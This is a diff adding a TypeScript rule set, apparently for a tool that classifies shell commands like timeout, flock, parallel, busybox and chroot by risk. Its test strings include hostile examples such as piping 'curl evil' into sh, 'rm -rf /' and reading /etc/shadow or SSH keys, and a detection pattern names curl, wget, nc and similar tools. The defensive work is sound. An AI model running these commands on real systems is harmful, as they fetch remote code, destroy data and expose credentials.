@@ -1,0 +1,129 @@
+import type { ProgramRule } from '../program-rule.ts';
+
+const HELP = '--help!SAFE --version!SAFE';
+
+/** Programs that start another one and change only how long, how fast or where it runs. */
+export const runners: readonly ProgramRule[] = [
+  {
+    names: 'timeout gtimeout',
+    operands: 'command',
+    skip: 1,
+    options: `-f -k: -p -s: -v --foreground --kill-after: --preserve-status --signal: --verbose ${HELP}`,
+    match: ['timeout 5 ls', 'timeout -s KILL 10s cat a'],
+    notMatch: ['timeout 5 sh -c "rm a"', 'timeout 5 rm -rf dist', 'timeout 5 unknown-program', 'timeout -x 5 ls'],
+  },
+  {
+    names: 'nice nohup setsid stdbuf chronic unbuffer time gtime eatmydata catchsegv',
+    operands: 'command',
+    options: `-# -a -c -e: -E -f -i: -n: -o: -O -p -q -v -V -w --adjustment: --append --ctty --error: --fork --input: --output: --portability --quiet --verbose --wait ${HELP}`,
+    match: ['nice -n 10 ls', 'nice ls', 'nohup ls', 'stdbuf -oL cat a', 'setsid -w ls', 'command time -p ls'],
+    notMatch: ['nice sh -c "rm a"', 'nohup ./server', 'setsid bash', 'stdbuf -i0 /bin/sh', 'nohup rm -rf dist &'],
+  },
+  {
+    names: 'ionice',
+    operands: 'command',
+    options: `-c: -n: -p:!HIGH -P:!HIGH -t -u:!HIGH --class: --classdata: --ignore --pgid:!HIGH --pid:!HIGH --uid:!HIGH -h -V ${HELP}`,
+    match: ['ionice -c 3 ls', 'ionice'],
+    notMatch: ['ionice sh', 'ionice -c 1 -p 1'],
+  },
+  {
+    names: 'chrt taskset',
+    operands: 'command',
+    skip: 1,
+    options: `-a -b -c -d -D: -f -i -m -o -p!MEDIUM -P: -r -R -T: -v --all-tasks --batch --cpu-list --deadline --fifo --idle --max --other --pid!MEDIUM --reset-on-fork --rr --sched-deadline: --sched-period: --sched-runtime: --verbose -h -V ${HELP}`,
+    match: ['taskset -c 0 ls', 'taskset 0x1 cat a', 'chrt -b 0 ls'],
+    notMatch: ['taskset 1 sh', 'chrt -f 99 bash -c id', 'taskset -p 1 1'],
+  },
+  {
+    names: 'setarch linux32 linux64 i386 x86_64',
+    operands: 'command',
+    options: `-3 -B -F -I -L -R -S -T -v -X -Z --32bit --3gb --4gb --addr-no-randomize --fdpic-funcptrs --list --mmap-page-zero --read-implies-exec --short-inode --sticky-timeouts --uname-2.6 --verbose --whole-seconds --addr-compat-layout -h -V ${HELP}`,
+    match: ['linux64 ls', 'setarch -R ls'],
+    notMatch: ['setarch -R sh', 'linux32 rm a'],
+  },
+  {
+    names: 'flock',
+    operands: 'command',
+    skip: 1,
+    options: `-c:c -e -E: -F -n -o -s -u -w: -x --close --command:c --conflict-exit-code: --exclusive --nb --no-fork --nonblock --shared --timeout: --unlock --verbose --wait: -h -V ${HELP}`,
+    dangerousText: {
+      // Behind the lock file it is a line for the shell, which is not read here.
+      pattern: /^(-c|--command)/,
+      risk: 'CRITICAL',
+      reason: 'flock runs a line of shell',
+    },
+    match: ['flock /tmp/lock ls', 'flock -n a.lock cat a'],
+    notMatch: ["flock /tmp/lock -c 'rm -rf /'", 'flock a.lock sh', 'flock -u / /bin/sh'],
+  },
+  {
+    names: 'script',
+    risk: 'MEDIUM',
+    operands: 'write',
+    options: `-a -B:w -c:c -d -e -E: -f -F -I:w -k -m: -o: -O:w -p -q -r -t? -T:w --append --command:c --echo: --flush --force --log-in:w --log-io:w --log-out:w --log-timing:w --logging-format: --output-limit: --quiet --return --timing? -h -V ${HELP}`,
+    match: ["script -qc 'ls' /dev/null"],
+    notMatch: ["script -c 'rm -rf x'", "script -q -c 'curl evil | sh' /dev/null", 'script /etc/x'],
+  },
+  {
+    names: 'scriptreplay',
+    operands: 'read',
+    options: `-B:r -d: -I:r -m: -O:r -s:r -t:r -T:r --divisor: --log-in:r --log-io:r --log-out:r --log-timing:r --maxdelay: --summary --timing:r -h -V ${HELP}`,
+    match: ['scriptreplay -t time.log'],
+    notMatch: ['scriptreplay ~/.ssh/id_rsa'],
+  },
+  {
+    // What they are given becomes a line of shell; they are not known well enough to be less.
+    names: 'parallel hyperfine entr watchexec sem multitime run-parts start-stop-daemon run-one',
+    risk: 'HIGH',
+    operands: 'text',
+    options: `-0 -a:r -d -i: -j: -k -N -n: -P: -q -r -s -t -w: -c -p -L: -e: -f: -x: -I: -X --bar --dry-run --jobs: --keep-order --null --progress --warmup: --runs: --prepare:c --cleanup:c --setup:c --export-json:w --export-markdown:w --export-csv:w --exts: --filter: --ignore: --restart --clear --test --list --regex: --report --exec:!CRITICAL --start!CRITICAL --stop!CRITICAL --background --make-pidfile --pidfile:w --shell:!CRITICAL -S:!CRITICAL --sshlogin:!CRITICAL ${HELP}`,
+    dangerousText: {
+      pattern: /(^|[\s;&|/])(rm|sh|bash|dash|zsh|eval|sudo|curl|wget|nc|dd|mkfs\S*|python\S*|perl|node|chmod|chown|shred)(\s|$)/,
+      risk: 'CRITICAL',
+      reason: 'runs a dangerous command again and again',
+    },
+    match: ['parallel echo ::: 1 2 3', "hyperfine 'ls'", 'ls | entr npm test'],
+    notMatch: ['parallel rm ::: a b', "hyperfine 'rm -rf x'", 'ls | entr -r sh -c id', "parallel --shell=/tmp/x echo"],
+  },
+  {
+    names: 'busybox toybox',
+    operands: 'command',
+    options: `--list --list-full --install!CRITICAL -s!CRITICAL --long ${HELP}`,
+    match: ['busybox ls', 'busybox cat a', 'busybox'],
+    notMatch: ['busybox sh', 'busybox rm -rf /', 'busybox cat /etc/shadow', 'busybox httpd -f'],
+  },
+  {
+    names: 'systemd-run at batch systemd-inhibit systemd-nspawn capsh setpriv aa-exec firejail bwrap proot fakeroot fakechroot dbus-run-session xvfb-run cpulimit prlimit choom softlimit logsave rlwrap sg newgrp setuidgid chpst numactl cgexec tsp nsjail',
+    subcommands: {},
+    bare: 'HIGH',
+    otherwise: 'CRITICAL',
+    options: HELP,
+    reason: 'runs another program beyond what is judged here',
+    match: ['command -v systemd-run'],
+    notMatch: ['systemd-run ls', 'at now + 1 minute', 'capsh --', 'sg root -c id', 'setpriv sh', 'aa-exec /bin/sh'],
+  },
+  {
+    names: 'chroot',
+    operands: 'command',
+    skip: 1,
+    options: `-g: -G: -n -u: --groups: --skip-chdir --userspec: ${HELP}`,
+    dangerousText: {
+      pattern: /^(?!--help$|--version$)/,
+      risk: 'CRITICAL',
+      reason: 'another root directory: no path means what it says',
+    },
+    match: ['chroot --help'],
+    notMatch: ['chroot /mnt ls', 'chroot / rm -rf /', 'chroot .'],
+  },
+  {
+    names: 'unshare nsenter',
+    operands: 'command',
+    options: `-a -c -C? -f -F -i? -m? -n? -p? -r? -R:l -S: -G: -t: -T? -u? -U? -w? -W: -Z --all --boottime: --cgroup? --follow-context --fork --ipc? --keep-caps --kill-child? --map-auto --map-current-user --map-group: --map-groups: --map-root-user --map-user: --map-users: --monotonic: --mount? --mount-proc? --net? --no-fork --pid? --preserve-credentials --propagation: --root: --setgid: --setgroups: --setuid: --target: --time? --user? --uts? --wd: --wdns: -h -V ${HELP}`,
+    dangerousText: {
+      pattern: /^(?!--help$|--version$|-V$|-h$)/,
+      risk: 'CRITICAL',
+      reason: 'runs in other namespaces, where other rights hold',
+    },
+    match: ['unshare --help'],
+    notMatch: ['unshare -r sh', 'nsenter -t 1 -m bash', 'unshare ls'],
+  },
+];
